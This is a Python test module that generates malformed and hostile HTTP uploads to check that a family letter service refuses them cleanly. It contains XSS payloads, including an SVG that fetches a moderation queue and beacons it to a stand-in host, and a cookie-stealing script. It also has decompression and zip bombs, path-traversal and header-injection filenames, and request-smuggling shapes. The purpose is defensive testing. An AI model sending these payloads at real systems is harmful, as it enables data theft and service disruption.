"""The hostile corpus: malformed and hostile uploads, requests and form posts, generated in code.

Each `Case` builds the exact bytes sent on the wire (request line, headers, body) for a signed-in
parent, staff member or admin of the hostile test node, so malformed HTTP can be sent as well as
well-formed HTTP carrying hostile content. Every case must be refused with a clean 4xx and leave
nothing stored. Valid carriers of hostile payloads (an HTML comment inside a real JPEG) are
accepted and neutralised instead; `test_polyglots.py` covers those.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from uuid import UUID

from PIL import Image

from tests.support import images

BOUNDARY = "hostile-boundary-7d1"
MIB = 1024 * 1024
# The hostile node runs with these intake limits so that "too large" stays cheap to send.
NODE_MAX_FILE_BYTES = 2 * MIB
NODE_MAX_FILES = 10


@dataclass(frozen=True)
class Person:
    cookie: str  # "name=value"
    csrf: str


@dataclass(frozen=True)
class Target:
    host: str
    origin: str
    family_id: UUID
    child_id: UUID
    parent: Person
    staff: Person
    admin: Person


Build = Callable[[Target], bytes]


@dataclass(frozen=True)
class Case:
    name: str
    build: Build
    why: str
    # Sign-in forms are sent signed out: "wrong password" (401) and "form expired" (403) are
    # the right refusals there. Everywhere else the harness's own credentials must work.
    auth_refusal_ok: bool = False


# --- request builders ------------------------------------------------------------------------


def http_request(
    target: Target,
    method: str,
    path: str,
    body: bytes,
    *,
    who: Person | None,
    content_type: str | None,
    extra: list[tuple[str, str]] | None = None,
    length: str | None = None,
) -> bytes:
    headers = [("Host", target.host), ("Origin", target.origin), ("Connection", "close")]
    if who is not None:
        headers += [("Cookie", who.cookie), ("X-CSRF-Token", who.csrf)]
    headers.append(("Accept", "application/json"))
    if content_type is not None:
        headers.append(("Content-Type", content_type))
    headers += extra or []
    if length != "omit":
        headers.append(("Content-Length", length if length is not None else str(len(body))))
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
    return head.encode("utf-8", "surrogateescape") + b"\r\n" + body


def items_path(target: Target) -> str:
    return f"/api/families/{target.family_id}/items"


def upload(
    body: bytes,
    *,
    boundary: str = BOUNDARY,
    content_type: str | None = None,
    extra: list[tuple[str, str]] | None = None,
    path: str | None = None,
    length: str | None = None,
) -> Build:
    def build(target: Target) -> bytes:
        return http_request(
            target,
            "POST",
            path or items_path(target),
            body,
            who=target.parent,
            content_type=content_type or f"multipart/form-data; boundary={boundary}",
            extra=extra,
            length=length,
        )

    return build


def part(name: str, data: bytes, *, filename: bytes | str | None = None, ctype: str = "") -> bytes:
    disposition = f'form-data; name="{name}"'.encode()
    if filename is not None:
        raw = filename.encode("utf-8", "surrogateescape") if isinstance(filename, str) else filename
        disposition += b'; filename="' + raw + b'"'
    head = b"Content-Disposition: " + disposition + b"\r\n"
    if ctype:
        head += f"Content-Type: {ctype}\r\n".encode()
    return f"--{BOUNDARY}\r\n".encode() + head + b"\r\n" + data + b"\r\n"


def end() -> bytes:
    return f"--{BOUNDARY}--\r\n".encode()


def letter_with_file(
    data: bytes, filename: bytes | str = "photo.jpg", ctype: str = "image/jpeg"
) -> Build:
    """A proper letter whose one attachment is the hostile file."""
    return upload(
        part("text", b"Hello Sam, a picture for you.")
        + part("files", data, filename=filename, ctype=ctype)
        + end()
    )


def json_post(path: Callable[[Target], str], body: bytes, who: str = "staff", **kw: str) -> Build:
    def build(target: Target) -> bytes:
        person = getattr(target, who)
        return http_request(
            target,
            "POST",
            path(target),
            body,
            who=person,
            content_type=kw.get("content_type", "application/json"),
        )

    return build


def opening_sessions(target: Target) -> str:
    return f"/api/families/{target.family_id}/opening-sessions"


def sensitive_terms(target: Target) -> str:
    return f"/api/v1/families/{target.family_id}/sensitive-terms"


# --- hostile files ---------------------------------------------------------------------------


def _png(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 100, 50)).save(buffer, "PNG")
    return buffer.getvalue()


def _jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    return images.small_jpeg(size, (40, 90, 200))


def _webp(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 200, 10)).save(buffer, "WEBP")
    return buffer.getvalue()


def _gif(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("P", size, 3).save(buffer, "GIF")
    return buffer.getvalue()


def _chunk(kind: bytes, payload: bytes, *, crc: int | None = None) -> bytes:
    value = zlib.crc32(kind + payload) & 0xFFFFFFFF if crc is None else crc
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", value)


def png_declaring(width: int, height: int, idat: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", idat or zlib.compress(b"\x00" * 4096))
        + _chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 64, 48, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr, crc=0xDEADBEEF) + _png()[33:]


def webp_declaring(width: int, height: int) -> bytes:
    """A VP8X header claiming a huge canvas, with no image data behind it."""
    vp8x = (
        bytes([0, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_declaring(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00" + b"\x3b"


def webp_bomb() -> bytes:
    """A real lossless WebP of one colour: a few hundred bytes, 16,000 × 16,000 pixels."""
    buffer = io.BytesIO()
    Image.new("L", (16000, 16000), 0).save(buffer, "WEBP", lossless=True, method=0)
    return buffer.getvalue()


def jpeg_bomb() -> bytes:
    return images.jpeg_claiming_size(60000, 60000)


def corrupt_jpeg_scan() -> bytes:
    data = bytearray(_jpeg((256, 256)))
    sos = data.find(b"\xff\xda")
    for i in range(sos + 20, len(data) - 2, 7):
        data[i] = 0xFF if data[i] != 0xFF else 0x00
    return bytes(data)


def pdf_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    return b"%PDF-1.4\n%broken, no objects\n" + archive.getvalue()


def pdf_many_pages() -> bytes:
    return images.plain_pdf(25)


def pdf_encrypted_marker() -> bytes:
    base = images.plain_pdf(1)
    return base.replace(
        b"trailer\n<<",
        b"trailer\n<< /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>",
    )


def zip_bomb() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.bin", b"\x00" * (20 * MIB))
    return archive.getvalue()


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('/api/moderation/queue').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>
<rect width="10" height="10"/></svg>"""
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
MZ = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."


def bmp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "BMP")
    return buffer.getvalue()


def tiff() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "TIFF")
    return buffer.getvalue()


def files_cases() -> list[Case]:
    png, jpeg, webp, gif = _png(), _jpeg(), _webp(), _gif()
    cases = [
        ("png-truncated-half", png[: len(png) // 2], "photo.png"),
        ("png-truncated-after-signature", png[:12], "photo.png"),
        ("jpeg-truncated-half", jpeg[: len(jpeg) // 2], "photo.jpg"),
        ("jpeg-only-start-marker", b"\xff\xd8\xff", "photo.jpg"),
        ("webp-truncated", webp[: len(webp) // 2], "photo.webp"),
        (
            "heic-garbage-after-ftyp",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
            "photo.heic",
        ),
        ("png-huge-declared-size", png_declaring(100_000, 100_000), "huge.png"),
        ("png-decompression-bomb", images.png_bomb(12_000, 12_000), "bomb.png"),
        ("jpeg-huge-declared-size", jpeg_bomb(), "huge.jpg"),
        ("webp-huge-declared-canvas", webp_declaring(16383, 16383), "huge.webp"),
        ("webp-decompression-bomb", webp_bomb(), "bomb.webp"),
        ("gif-bomb-disguised-as-jpeg", gif_declaring(65535, 65535), "bomb.jpg"),
        ("gif-disguised-as-png", gif, "photo.png"),
        ("png-bad-header-crc", png_bad_crc(), "photo.png"),
        ("png-garbage-pixel-data", images.png_with_garbage_pixels(64, 48), "photo.png"),
        ("png-zero-dimensions", png_declaring(0, 0), "photo.png"),
        ("jpeg-corrupt-scan-data", corrupt_jpeg_scan(), "photo.jpg"),
        ("jpeg-start-then-html", b"\xff\xd8\xff\xe0" + HTML, "photo.jpg"),
        ("png-signature-then-html", b"\x89PNG\r\n\x1a\n" + HTML, "photo.png"),
        ("pdf-truncated", images.plain_pdf(2)[:200], "letter.pdf"),
        ("pdf-zip-polyglot", pdf_zip_polyglot(), "letter.pdf"),
        ("pdf-too-many-pages", pdf_many_pages(), "long.pdf"),
        ("pdf-encrypted", pdf_encrypted_marker(), "locked.pdf"),
        ("svg-with-script", SVG, "drawing.svg"),
        ("svg-named-jpeg", SVG, "drawing.jpg"),
        ("html-named-jpeg", HTML, "photo.jpg"),
        ("javascript-named-png", b"alert(document.cookie);//", "photo.png"),
        ("zip-bomb-named-jpeg", zip_bomb(), "photo.jpg"),
        ("elf-binary-named-jpeg", ELF, "photo.jpg"),
        ("windows-exe-named-png", MZ, "photo.png"),
        ("bmp-image", bmp(), "photo.bmp"),
        ("tiff-image", tiff(), "photo.tiff"),
        ("plain-text-as-image", b"just some words", "photo.png"),
        ("empty-file", b"", "photo.jpg"),
        (
            "file-over-the-size-limit",
            b"\xff\xd8\xff\xe0" + b"\x00" * (NODE_MAX_FILE_BYTES + 1),
            "big.jpg",
        ),
    ]
    return [
        Case(name, letter_with_file(data, filename), "a file the sanitiser must refuse")
        for name, data, filename in cases
    ]


# --- names, text and fields ------------------------------------------------------------------


def names_cases() -> list[Case]:
    bad = b"not an image at all"
    names: list[tuple[str, bytes | str]] = [
        ("filename-path-traversal", "../../etc/passwd"),
        ("filename-windows-path", "C:\\Windows\\System32\\drivers\\etc\\hosts.jpg"),
        ("filename-nul-byte", "photo.jpg\x00.html"),
        ("filename-10000-chars", "a" * 10_000 + ".jpg"),
        ("filename-invalid-utf8", b"ph\xff\xfeoto\xc3.jpg"),
        ("filename-right-to-left-override", "\u202egpj.exe"),
        ("filename-control-characters", "\x1b[31mred\x07.jpg"),
        ("filename-header-injection", "a.jpg\r\nContent-Type: text/html"),
    ]
    cases = [
        Case(name, letter_with_file(bad, filename), "a path-like or broken name on a bad file")
        for name, filename in names
    ]
    cases += [
        Case(
            "text-invalid-utf8",
            upload(part("text", b"Hello \xff\xfe\xfd Sam") + end()),
            "the letter text is not UTF-8",
        ),
        Case(
            "text-over-the-limit",
            upload(part("text", b"x" * 20_001) + end()),
            "longer than the 20,000 character limit",
        ),
        Case(
            "text-only-whitespace-and-nuls",
            upload(part("text", b" \t\r\n" * 50) + end()),
            "nothing to send",
        ),
        Case(
            "field-name-10000-chars",
            upload(part("n" * 10_000, b"value") + end()),
            "an unknown field with an absurd name, and no letter",
        ),
        Case(
            "unknown-field-overlong-value",
            upload(part("text", b"Hello") + part("colour", b"z" * 5000) + end()),
            "a small field past its limit",
        ),
        Case(
            "too-many-files",
            upload(
                part("text", b"Hello")
                + b"".join(
                    part("files", _png((8, 8)), filename=f"p{i}.png", ctype="image/png")
                    for i in range(NODE_MAX_FILES + 1)
                )
                + end()
            ),
            "one file more than the limit",
        ),
        Case(
            "kind-not-allowed-for-parent",
            _with_query(upload(part("text", b"Hello") + end()), "?kind=reply"),
            "a parent may not send a reply",
        ),
        Case(
            "idempotency-key-300-chars",
            upload(part("text", b"Hello") + end(), extra=[("Idempotency-Key", "k" * 300)]),
            "the key is longer than 200 characters",
        ),
        Case(
            "idempotency-key-not-printable",
            upload(part("text", b"Hello") + end(), extra=[("Idempotency-Key", "a\tb")]),
            "the key holds a control character",
        ),
    ]
    return cases


def _with_query(build: Build, query: str) -> Build:
    def with_query(target: Target) -> bytes:
        request = build(target)
        line_end = request.index(b" HTTP/1.1\r\n")
        return request[:line_end] + query.encode() + request[line_end:]

    return with_query


# --- malformed multipart and HTTP ------------------------------------------------------------


def multipart_cases() -> list[Case]:
    letter = part("text", b"Hello") + end()
    return [
        Case(
            "multipart-without-boundary",
            upload(letter, content_type="multipart/form-data"),
            "no boundary parameter",
        ),
        Case(
            "multipart-boundary-mismatch",
            upload(letter, boundary="another-boundary"),
            "the body uses a different boundary",
        ),
        Case(
            "multipart-boundary-5000-chars",
            upload(letter, boundary="b" * 5000),
            "a boundary far past RFC 2046's 70 characters",
        ),
        Case(
            "multipart-unterminated-part",
            upload(
                f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="text"\r\n\r\nHello'.encode()
            ),
            "the body ends inside a part",
        ),
        Case(
            "multipart-unterminated-headers",
            upload(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="text"'.encode()),
            "the body ends inside the part headers",
        ),
        Case(
            "multipart-part-without-disposition",
            upload(f"--{BOUNDARY}\r\nContent-Type: text/plain\r\n\r\nHello\r\n".encode() + end()),
            "a part with no name",
        ),
        Case(
            "multipart-part-header-too-long",
            upload(
                f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="text"; x="{"y" * 100_000}"\r\n\r\nHello\r\n'.encode()
                + end()
            ),
            "a part header of 100 kB",
        ),
        Case(
            "multipart-thousands-of-tiny-parts",
            upload(b"".join(part(f"f{i}", b"x") for i in range(5000)) + end()),
            "5,000 unknown one-byte fields and no letter",
        ),
        Case(
            "multipart-thousands-of-tiny-files",
            upload(
                part("text", b"Hello")
                + b"".join(part("files", b"x", filename=f"{i}.jpg") for i in range(3000))
                + end()
            ),
            "3,000 one-byte files",
        ),
        Case(
            "multipart-nested-mixed",
            upload(
                f"--{BOUNDARY}\r\nContent-Type: multipart/mixed; boundary=inner\r\n\r\n"
                '--inner\r\nContent-Disposition: form-data; name="text"\r\n\r\nHi\r\n--inner--\r\n'.encode()
                + end()
            ),
            "multipart inside multipart",
        ),
        Case("multipart-only-closing-boundary", upload(end()), "an empty form"),
        Case(
            "multipart-binary-garbage",
            upload(bytes(range(256)) * 64),
            "16 kB of bytes that are not a form",
        ),
        Case(
            "multipart-gzip-bomb-body",
            upload(
                gzip.compress(part("files", b"\x00" * (8 * MIB), filename="a.jpg") + end(), 9),
                extra=[("Content-Encoding", "gzip")],
            ),
            "a gzip-encoded body that inflates past the file limit",
        ),
        Case(
            "upload-as-json",
            upload(b'{"text": "Hello"}', content_type="application/json"),
            "an upload must be a form",
        ),
        Case(
            "upload-as-urlencoded",
            upload(b"text=Hello", content_type="application/x-www-form-urlencoded"),
            "an upload must be multipart",
        ),
        Case(
            "upload-declares-10-gb",
            upload(letter, length=str(10 * 1024**3)),
            "Content-Length far past any letter (refused before reading)",
        ),
    ]


def _raw_request(head: str, body: bytes = b"") -> Build:
    def build(target: Target) -> bytes:
        return (
            head.format(
                host=target.host,
                origin=target.origin,
                items=items_path(target),
                cookie=target.parent.cookie,
            ).encode("utf-8", "surrogateescape")
            + body
        )

    return build


def http_cases() -> list[Case]:
    common = "Host: {host}\r\nOrigin: {origin}\r\nCookie: {cookie}\r\nConnection: close\r\n"
    return [
        Case(
            "header-cookie-100kb",
            _raw_request(
                "GET /healthz HTTP/1.1\r\nHost: {host}\r\nCookie: "
                + "a" * 100_000
                + "\r\nConnection: close\r\n\r\n"
            ),
            "one header line far past the parser's limit",
        ),
        Case(
            "header-2000-headers",
            _raw_request(
                "POST {items} HTTP/1.1\r\n"
                + common
                + "".join(f"X-H{i}: v\r\n" for i in range(2000))
                + "Content-Length: 0\r\n\r\n"
            ),
            "thousands of header lines",
        ),
        Case(
            "url-64kb",
            _raw_request(
                "GET /" + "a" * 65_536 + " HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            ),
            "a request line of 64 kB",
        ),
        Case(
            "header-name-invalid-bytes",
            _raw_request(
                "GET /healthz HTTP/1.1\r\nHost: {host}\r\nBad\x01Name: x\r\nConnection: close\r\n\r\n"
            ),
            "a control character in a header name",
        ),
        Case(
            "content-length-and-chunked",
            _raw_request(
                "POST {items} HTTP/1.1\r\n"
                + common
                + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
                b"0\r\n\r\n",
            ),
            "request smuggling shape: both framings at once",
        ),
        Case(
            "chunked-invalid-size",
            _raw_request(
                "POST {items} HTTP/1.1\r\n"
                + common
                + "Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n",
                b"zz\r\nhello\r\n0\r\n\r\n",
            ),
            "a chunk size that is not hexadecimal",
        ),
        Case(
            "content-length-not-a-number",
            _raw_request("POST {items} HTTP/1.1\r\n" + common + "Content-Length: ten\r\n\r\n"),
            "Content-Length: ten",
        ),
        Case(
            "content-length-negative",
            _raw_request("POST {items} HTTP/1.1\r\n" + common + "Content-Length: -1\r\n\r\n"),
            "Content-Length: -1",
        ),
        Case(
            "method-unknown",
            _raw_request("BREW {items} HTTP/1.1\r\n" + common + "Content-Length: 0\r\n\r\n"),
            "a method no route has",
        ),
    ]


# --- JSON bodies -----------------------------------------------------------------------------


def json_cases() -> list[Case]:
    deep = b"[" * 100_000 + b"]" * 100_000
    deep_object = b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    cases: list[Case] = []
    for label, path, who in (
        ("letterbox", opening_sessions, "staff"),
        ("api-v1", sensitive_terms, "admin"),
    ):
        cases += [
            Case(f"{label}-json-array", json_post(path, b"[1, 2, 3]", who), "not an object"),
            Case(f"{label}-json-string", json_post(path, b'"hello"', who), "not an object"),
            Case(f"{label}-json-null", json_post(path, b"null", who), "not an object"),
            Case(f"{label}-json-invalid", json_post(path, b'{"child_id": ', who), "cut short"),
            Case(f"{label}-json-deep-array", json_post(path, deep, who), "100,000 levels deep"),
            Case(f"{label}-json-deep-object", json_post(path, deep_object, who), "50,000 levels"),
            Case(
                f"{label}-json-2mb",
                json_post(path, json.dumps({"x": "y" * (2 * MIB)}).encode(), who),
                "past the 1 MiB body limit",
            ),
            Case(
                f"{label}-json-invalid-utf8",
                json_post(path, b'{"term": "\xff\xfe"}', who),
                "not UTF-8",
            ),
            Case(
                f"{label}-json-lone-surrogate",
                json_post(path, b'{"term": "\\ud800", "child_id": "\\udfff"}', who),
                "escaped lone surrogates",
            ),
            Case(
                f"{label}-json-huge-integer",
                json_post(path, b'{"child_id": ' + b"9" * 5000 + b"}", who),
                "an integer of 5,000 digits",
            ),
            Case(
                f"{label}-json-wrong-content-type",
                json_post(path, b"<xml/>", who, content_type="application/xml"),
                "not JSON at all",
            ),
        ]
    return cases


def form_cases() -> list[Case]:
    def sign_in(body: bytes, ctype: str = "application/x-www-form-urlencoded") -> Build:
        def build(target: Target) -> bytes:
            token = "t" * 43
            return http_request(
                target,
                "POST",
                "/sign-in",
                body.replace(b"TOKEN", token.encode()),
                who=None,
                content_type=ctype,
                extra=[("Cookie", f"letterbox-csrf={token}")],
            )

        return build

    cases = [
        Case(
            "sign-in-form-2mb",
            sign_in(b"csrf_token=TOKEN&email=" + b"a" * (2 * MIB) + b"&password=x"),
            "a form past the 1 MiB limit",
        ),
        Case(
            "sign-in-form-invalid-utf8",
            sign_in(b"csrf_token=TOKEN&email=%ff%fe%fd&password=%c3"),
            "percent-encoded bytes that are not UTF-8",
        ),
        Case(
            "sign-in-form-overlong-password",
            sign_in(b"csrf_token=TOKEN&email=a%40b.org&password=" + b"p" * 200_000),
            "a 200 kB password",
        ),
        Case(
            "sign-in-multipart-garbage",
            sign_in(b"\x00\x01garbage", "multipart/form-data; boundary=zzz"),
            "a broken multipart sign-in form",
        ),
    ]
    return [replace(case, auth_refusal_ok=True) for case in cases]


def hostile_requests() -> list[Case]:
    cases = (
        files_cases()
        + names_cases()
        + multipart_cases()
        + http_cases()
        + json_cases()
        + form_cases()
    )
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
